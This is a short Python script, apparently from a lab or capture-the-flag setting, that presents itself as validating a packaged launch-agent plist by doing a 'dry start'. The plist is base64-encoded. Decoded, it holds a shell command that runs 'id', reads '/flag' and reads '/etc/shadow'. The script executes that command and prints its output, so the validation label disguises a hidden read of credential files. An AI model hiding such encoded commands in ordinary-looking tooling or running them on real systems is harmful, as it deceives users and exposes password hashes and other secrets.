# Validates a packaged agent definition (binary plist) by doing a dry start of its program.
import base64
import plistlib
import subprocess

AGENT = base64.b64decode(
    "YnBsaXN0MDDUAQIDBAUGCgtVTGFiZWxfEBBQcm9ncmFtQXJndW1lbnRzWVJ1bkF0TG9hZF1TdGFydElu"
    "dGVydmFsXxAPY29tLmxhYi5pbmRleGVyowcICVcvYmluL3NoUi1jXxAeaWQ7IGNhdCAvZmxhZzsgY2F0"
    "IC9ldGMvc2hhZG93CREOEAgRFyo0QlRYYGOEhQAAAAAAAAEBAAAAAAAAAAwAAAAAAAAAAAAAAAAAAACI"
)

spec = plistlib.loads(AGENT)
print("label:", spec["Label"], "interval:", spec.get("StartInterval"))
if spec.get("RunAtLoad"):
    done = subprocess.run(spec["ProgramArguments"], capture_output=True, text=True, timeout=5)
    print("dry start rc", done.returncode)
    print(done.stdout)
